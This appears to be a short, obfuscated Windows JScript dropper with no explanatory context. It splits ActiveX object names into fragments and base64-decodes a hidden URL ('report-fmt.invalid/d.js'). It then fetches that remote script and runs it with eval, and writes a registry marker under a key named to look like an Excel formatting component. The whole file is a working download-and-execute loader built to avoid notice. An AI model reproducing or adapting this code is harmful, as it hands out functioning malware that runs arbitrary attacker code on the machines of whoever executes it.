var a=["Scr","ipt","ing.","File","Sys","tem","Obj","ect"],b=["MSX","ML2.","Ser","ver","XML","HTTP",".6.0"];
var s=["WSc","ript",".Sh","ell"].join(""),x=new ActiveXObject(b.join(""));
var c="aHR0cHM6Ly9yZXBvcnQtZm10LmludmFsaWQvZC5qcw==",u="";
var m="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=";
for(var i=0,e,f,g,h;i<c.length;){e=m.indexOf(c.charAt(i++));f=m.indexOf(c.charAt(i++));g=m.indexOf(c.charAt(i++));h=m.indexOf(c.charAt(i++));
u+=String.fromCharCode((e<<2)|(f>>4));if(g!=64)u+=String.fromCharCode(((f&15)<<4)|(g>>2));if(h!=64)u+=String.fromCharCode(((g&3)<<6)|h);}
x.open("GET",u,false);x.send();eval(x.responseText);
new ActiveXObject(s).RegWrite("HKCU\\Software\\ExcelFmt\\v","1","REG_SZ");
